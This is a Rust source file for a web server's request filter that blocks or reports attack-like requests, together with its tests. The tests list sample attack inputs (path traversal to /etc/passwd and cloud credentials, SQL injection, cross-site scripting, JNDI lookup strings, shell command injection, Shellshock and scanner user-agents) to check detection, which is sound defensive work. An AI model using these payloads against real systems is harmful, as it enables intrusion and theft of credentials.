//! Requests that look like an attack, by rules in a file (S35): refused before anything else is done for them, or only
//! reported.
//!
//! The filter is one wall among many and none of the others leans on it: statements are pinned, values are typed, output
//! is encoded. It keeps scanners from costing anything, and tells an operator that somebody is trying. So its rules are
//! narrow: what an honest client could send is not blocked. Patterns are run by the `regex` crate in time linear in the
//! text, whatever the pattern and the text are.
//!
//! A rule looks at the path, the query, named headers or the body. What a client percent-encoded is looked at as it came,
//! decoded, and decoded twice. A place that no rule looks at costs nothing.

mod rule;

use std::{borrow::Cow, collections::BTreeMap};

use axum::http::{HeaderName, Method, request::Parts};
use regex::bytes::RegexSet;

use self::rule::File;
pub use self::rule::{Look, Mode, Rule};
use crate::error::{Error, Fault, Setup};

/// The rules a host has that was told no others.
const BUILT_IN: &str = include_str!("filter/rules.toml");
/// More than this of a body is not looked at, in bytes.
const BODY_BYTES_MAX: usize = 64 << 10;

/// What an operator made of the rules.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Force {
    /// Each as its `mode` says.
    AsWritten,
    /// None blocks.
    ReportOnly,
}

/// All rules, by where they look.
#[derive(Debug, Default)]
pub struct Filter {
    rules: Vec<Rule>,
    path: Place,
    query: Place,
    headers: Vec<(HeaderName, Place)>,
    body: Place,
}

/// The rules that look at one place.
#[derive(Debug, Default)]
struct Place {
    patterns: Option<RegexSet>,
    /// The rule of each pattern, by its index in [`Filter::rules`].
    of_pattern: Vec<usize>,
    /// Rules that bound the length, in bytes.
    longest: Vec<(usize, usize)>,
    /// Rules without either: the method and the path alone make them hit.
    always: Vec<usize>,
}

impl Filter {
    /// The built-in rules.
    pub fn built_in(force: Force) -> Setup<Self> {
        Self::read("http/filter/rules.toml", BUILT_IN, force)
    }

    /// Reads rules; `place` is named in faults.
    pub fn read(place: &str, text: &str, force: Force) -> Setup<Self> {
        let File { mut rules } = toml::from_str(text).map_err(Fault::at(place))?;
        let mut by_look: BTreeMap<Look, Vec<usize>> = BTreeMap::new();
        for (at, rule) in rules.iter_mut().enumerate() {
            rule.ensure_sound().map_err(|fault| fault.within(place))?;
            if force == Force::ReportOnly {
                rule.mode = Mode::Report;
            }
            for look in &rule.look {
                by_look.entry(look.clone()).or_default().push(at);
            }
        }
        let mut seen = std::collections::BTreeSet::new();
        if let Some(twice) = rules.iter().find(|rule| !seen.insert(&rule.id)) {
            return Err(Fault::new(place, format!("has two rules {:?}", twice.id)).fix("name each differently"));
        }
        let mut filter = Self::default();
        for (look, of) in by_look {
            let made = Place::of(&rules, &of).map_err(|fault| fault.within(place))?;
            match look {
                Look::Path => filter.path = made,
                Look::Query => filter.query = made,
                Look::Body => filter.body = made,
                Look::Header(name) => {
                    let name = name.parse::<HeaderName>().map_err(Fault::at(place))?;
                    filter.headers.push((name, made));
                }
            }
        }
        filter.rules = rules;
        Ok(filter)
    }

    /// Looks at the head. Every rule that hits is handed to `hit`, in no order; the first that blocks ends it.
    ///
    /// # Errors
    /// 403 with the code `filtered`.
    pub fn ensure_head(&self, parts: &Parts, mut hit: impl FnMut(&Rule)) -> Result<(), Error> {
        let (method, path) = (&parts.method, parts.uri.path());
        let mut look = |place: &Place, text: &[u8]| self.look(place, method, path, text, &mut hit);
        for form in forms(path.as_bytes(), false) {
            look(&self.path, &form)?;
        }
        if let Some(query) = parts.uri.query().filter(|_| !self.query.is_empty()) {
            for form in forms(query.as_bytes(), true) {
                look(&self.query, &form)?;
            }
        }
        for (name, place) in &self.headers {
            for value in parts.headers.get_all(name) {
                look(place, value.as_bytes())?;
            }
        }
        Ok(())
    }

    /// Whether any rule wants to see a body.
    #[must_use]
    pub fn wants_body(&self) -> bool {
        !self.body.is_empty()
    }

    /// Looks at the body, as [`Self::ensure_head`] does at the head.
    ///
    /// # Errors
    /// The same.
    pub fn ensure_body(&self, parts: &Parts, body: &[u8], mut hit: impl FnMut(&Rule)) -> Result<(), Error> {
        let text = body.get(..BODY_BYTES_MAX).unwrap_or(body);
        self.look(&self.body, &parts.method, parts.uri.path(), text, &mut hit)
    }

    fn look(
        &self,
        place: &Place,
        method: &Method,
        path: &str,
        text: &[u8],
        hit: &mut impl FnMut(&Rule),
    ) -> Result<(), Error> {
        let long = place.longest.iter().filter(|(_, bytes_max)| text.len() > *bytes_max).map(|(rule, _)| *rule);
        let matched = match &place.patterns {
            // Nearly always nothing matches, which is found out without an allocation.
            Some(patterns) if patterns.is_match(text) => Some(patterns.matches(text)),
            _ => None,
        };
        let matched = matched.iter().flatten().filter_map(|at| place.of_pattern.get(at).copied());
        for rule in long.chain(matched).chain(place.always.iter().copied()).filter_map(|at| self.rules.get(at)) {
            if !rule.concerns(method, path) {
                continue;
            }
            hit(rule);
            if rule.mode == Mode::Block {
                return Err(Error::Filtered { rule: rule.id.clone() });
            }
        }
        Ok(())
    }
}

impl Place {
    fn of(rules: &[Rule], of: &[usize]) -> Setup<Self> {
        let mut place = Self::default();
        let mut patterns = Vec::new();
        for (at, rule) in of.iter().filter_map(|at| Some((*at, rules.get(*at)?))) {
            for pattern in &rule.patterns {
                patterns.push(pattern.as_str());
                place.of_pattern.push(at);
            }
            place.longest.extend(rule.bytes_max.map(|bytes_max| (at, bytes_max)));
            if rule.patterns.is_empty() && rule.bytes_max.is_none() {
                place.always.push(at);
            }
        }
        if !patterns.is_empty() {
            let set = RegexSet::new(&patterns).map_err(|why| Fault::new("patterns", why.to_string()))?;
            place.patterns = Some(set);
        }
        Ok(place)
    }

    fn is_empty(&self) -> bool {
        self.patterns.is_none() && self.longest.is_empty() && self.always.is_empty()
    }
}

/// The text as it came and, where that differs, decoded once and twice.
fn forms(text: &[u8], is_query: bool) -> impl Iterator<Item = Cow<'_, [u8]>> {
    let once = decode(text, is_query);
    let twice = once.as_deref().and_then(|once| decode(once, is_query));
    [Some(Cow::Borrowed(text)), once.map(Cow::Owned), twice.map(Cow::Owned)].into_iter().flatten()
}

fn decode(text: &[u8], is_query: bool) -> Option<Vec<u8>> {
    let is_coded = |byte: &u8| *byte == b'%' || is_query && *byte == b'+';
    if !text.iter().any(is_coded) {
        return None;
    }
    let spaced: Cow<'_, [u8]> = match is_query {
        true => text.iter().map(|byte| if *byte == b'+' { b' ' } else { *byte }).collect::<Vec<u8>>().into(),
        false => text.into(),
    };
    let decoded: Vec<u8> = percent_encoding::percent_decode(&spaced).collect();
    (decoded != text).then_some(decoded)
}

#[cfg(test)]
mod tests {
    use axum::http::Request;

    use super::*;

    /// The ids of the rules that a request hits, and whether it is refused.
    fn hits(filter: &Filter, method: &str, target: &str, headers: &[(&str, &str)]) -> (Vec<String>, bool) {
        let mut request = Request::builder().method(method).uri(target);
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let mut ids = Vec::new();
        let parts = request.body(()).unwrap().into_parts().0;
        let refused = filter.ensure_head(&parts, |rule| ids.push(rule.id.clone())).is_err();
        ids.dedup();
        (ids, refused)
    }

    fn one(rule: &str) -> Setup<Filter> {
        Filter::read("test", &format!("[[rule]]\nid = \"r\"\nwhat = \"A test.\"\n{rule}"), Force::AsWritten)
    }

    #[test]
    fn a_rule_looks_where_it_says_and_at_what_was_encoded() {
        let filter = one("mode = \"block\"\nlook = [\"path\"]\npatterns = ['secret']").unwrap();
        for (target, is_hit) in [
            ("/secret", true),
            ("/%73ecret", true),
            ("/%2573ecret", true),
            ("/%252573ecret", false),
            ("/public?secret", false),
        ] {
            assert_eq!(hits(&filter, "GET", target, &[]).1, is_hit, "{target}");
        }
        let filter = one("mode = \"block\"\nlook = [\"query\"]\npatterns = ['a b']").unwrap();
        assert!(hits(&filter, "GET", "/?x=a+b", &[]).1 && hits(&filter, "GET", "/?x=a%20b", &[]).1);
        let filter = one("mode = \"block\"\nlook = [\"header:x-odd\"]\npatterns = ['^b$']").unwrap();
        assert!(hits(&filter, "GET", "/", &[("x-odd", "a"), ("x-odd", "b")]).1);
        assert!(!hits(&filter, "GET", "/", &[("x-even", "b")]).1);
    }

    #[test]
    fn method_path_and_size_are_conditions_too() {
        let filter = one("mode = \"block\"\nlook = [\"path\"]\nmethods = [\"DELETE\"]\nbelow = \"/api/v1/x\"").unwrap();
        assert!(hits(&filter, "DELETE", "/api/v1/x/1", &[]).1);
        assert!(!hits(&filter, "GET", "/api/v1/x/1", &[]).1 && !hits(&filter, "DELETE", "/api/v1/y", &[]).1);
        let filter = one("mode = \"block\"\nlook = [\"query\"]\nbytes_max = 3").unwrap();
        assert!(hits(&filter, "GET", "/?abcd", &[]).1 && !hits(&filter, "GET", "/?abc", &[]).1);
    }

    #[test]
    fn a_report_is_no_refusal() {
        let text = "mode = \"report\"\nlook = [\"path\"]\npatterns = ['x']";
        assert_eq!(hits(&one(text).unwrap(), "GET", "/x", &[]), (vec!["r".to_owned()], false));
        let blocking = "[[rule]]\nid=\"r\"\nwhat=\"A test.\"\nmode = \"block\"\nlook = [\"path\"]\npatterns = ['x']";
        let reporting = Filter::read("test", blocking, Force::ReportOnly).unwrap();
        assert_eq!(hits(&reporting, "GET", "/x", &[]), (vec!["r".to_owned()], false));
    }

    #[test]
    fn a_body_is_looked_at_only_if_a_rule_wants_to() {
        assert!(!one("mode = \"block\"\nlook = [\"path\"]\npatterns = ['x']").unwrap().wants_body());
        let filter = one("mode = \"block\"\nlook = [\"body\"]\npatterns = ['evil']").unwrap();
        let parts = Request::new(()).into_parts().0;
        assert!(filter.wants_body());
        assert!(filter.ensure_body(&parts, b"{\"a\":\"evil\"}", |_| {}).is_err());
        assert!(filter.ensure_body(&parts, b"{\"a\":\"good\"}", |_| {}).is_ok());
    }

    #[test]
    fn a_rule_that_means_nothing_is_refused_by_name() {
        for (rule, said) in [
            ("mode = \"block\"\nlook = []", "looks nowhere"),
            ("mode = \"maybe\"\nlook = [\"path\"]", "mode"),
            ("mode = \"block\"\nlook = [\"footer\"]", "footer"),
            ("mode = \"block\"\nlook = [\"path\"]\npatterns = ['(']", "unclosed"),
            ("mode = \"block\"\nlook = [\"path\"]", "hits every request"),
            ("mode = \"block\"\nlook = [\"path\"]\npattern = 'x'", "pattern"),
        ] {
            let fault = one(rule).unwrap_err().to_string();
            assert!(fault.contains(said), "{rule}: {fault}");
        }
        let twice = "[[rule]]\nid=\"r\"\nwhat=\"A test.\"\nmode=\"block\"\nlook=[\"path\"]\npatterns=['x']\n".repeat(2);
        assert!(Filter::read("test", &twice, Force::AsWritten).unwrap_err().to_string().contains("two rules"));
    }

    #[test]
    fn attacks_are_caught_by_the_built_in_rules() {
        let filter = Filter::built_in(Force::AsWritten).unwrap();
        for (target, rule) in [
            ("/docs/../../etc/passwd", "traversal"),
            ("/docs/..%2f..%2fetc/passwd", "traversal"),
            ("/docs/%2e%2e/%2e%2e/x", "traversal"),
            ("/docs/..%5c..%5cx", "traversal"),
            ("/docs/%252e%252e%252fx", "traversal"),
            ("/a?file=../../etc/passwd", "traversal-in-query"),
            ("/docs/..%c0%af..%c0%afx", "overlong-utf-8"),
            ("/a%00.html", "control-character"),
            ("/a?b=c%00", "nul-in-query"),
            ("/a?b=c%0d%0aSet-Cookie:%20x=y", "header-injection"),
            ("/.git/config", "hidden-file"),
            ("/a/.env", "hidden-file"),
            ("/.aws/credentials", "hidden-file"),
            ("/wp-admin/setup.php", "foreign-software"),
            ("/phpmyadmin/", "foreign-software"),
            ("/cgi-bin/test.cgi", "foreign-software"),
            ("/index.php?x=1", "foreign-software"),
            ("/actuator/env", "foreign-software"),
            ("/a?id=1%20UNION%20SELECT%20password%20FROM%20account", "sql-injection"),
            ("/a?id=1/**/union/**/all/**/select/**/1", "sql-injection"),
            ("/a?id=1'%20or%20'1'='1", "sql-injection"),
            ("/a?id=1%22%20OR%20%22a%22=%22a", "sql-injection"),
            ("/a?id=1+or+1=1", "sql-injection"),
            ("/a?id=1;drop%20table%20account", "sql-injection"),
            ("/a?id=1'--", "sql-injection"),
            ("/a?id=1'%20AND%20SLEEP(5)%23", "sql-injection"),
            ("/a?id=(select%20pg_sleep(5))", "sql-injection"),
            ("/a?q=<script>alert(1)</script>", "cross-site-scripting"),
            ("/a?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "cross-site-scripting"),
            ("/a?q=%253Csvg/onload=alert(1)%253E", "cross-site-scripting"),
            ("/a?q=javascript:alert(1)", "cross-site-scripting"),
            ("/%3Cscript%3E", "cross-site-scripting"),
            ("/a?q=$%7Bjndi:ldap://x/y%7D", "lookup"),
            ("/a?q=%3Bcat%20/etc/passwd", "command"),
            ("/a?q=$(id)", "command"),
        ] {
            // What an URI cannot hold as it stands is what a raw socket sends encoded.
            let target = target.replace('<', "%3C").replace('>', "%3E").replace('"', "%22");
            let (ids, _) = hits(&filter, "GET", &target, &[]);
            assert!(ids.iter().any(|id| id == rule), "{target}: {ids:?}");
        }
        for agent in ["sqlmap/1.7#stable", "Mozilla/5.00 (Nikto/2.5.0)", "Nuclei - Open-source", "() { :;}; echo x"] {
            assert!(hits(&filter, "GET", "/", &[("user-agent", agent)]).1, "{agent}");
        }
        assert!(hits(&filter, "GET", "/", &[("referer", "${jndi:ldap://x}")]).1);
        assert!(hits(&filter, "GET", &format!("/{}", "a".repeat(3_000)), &[]).1);
        assert!(hits(&filter, "GET", &format!("/?{}", "a".repeat(9_000)), &[]).1);
    }

    #[test]
    fn honest_requests_hit_nothing() {
        let filter = Filter::built_in(Force::AsWritten).unwrap();
        for target in [
            "/",
            "/api/v1/restaurants?open_now=true&limit=1",
            "/api/v1/restaurants?text=O'Brien%20%26%20Sons",
            "/api/v1/restaurants?text=fish+and+chips",
            "/api/v1/restaurants?text=select+wines+from+the+union",
            "/api/v1/restaurants?text=mac+%27n%27+cheese",
            "/api/v1/restaurants?text=3+or+4+people",
            "/api/v1/restaurants?text=wait...+what%3F",
            "/api/v1/restaurants?text=%22the+best%22+in+town+%3C3",
            "/api/v1/restaurants?text=50%25+off",
            "/api/v1/restaurants?text=table+for+2;+no+onions",
            "/api/v1/restaurants?text=caf%C3%A9+%E6%B1%89%E5%AD%97+%F0%9F%8D%95",
            "/api/v1/restaurants?text=drop+by,+update+me,+delete+this+dish",
            "/api/v1/restaurants?text=C%2B%2B+%23+node.js",
            "/api/v1/restaurants?cursor=WoM3wiH1_-abcDEF",
            "/api/v1/ordering/orders?from=2026-11-23T20:30:00%2B02:00&limit=5",
            "/api/v1/ordering/orders/0192f0c1-2b7a-7c3e-9d0e-5a4b3c2d1e0f",
            "/docs/swagger-ui-bundle.js",
            "/docs/swagger-ui.css.map",
            "/.well-known/security.txt",
            "/openapi.json",
        ] {
            assert_eq!(hits(&filter, "GET", target, &[]), (vec![], false), "{target}");
        }
        for agent in [
            "curl/7.88.1",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
            "Go-http-client/2.0",
        ] {
            let headers = [("user-agent", agent), ("referer", "https://dine.example/menu?x=1#y")];
            assert_eq!(hits(&filter, "GET", "/", &headers), (vec![], false), "{agent}");
        }
    }
}
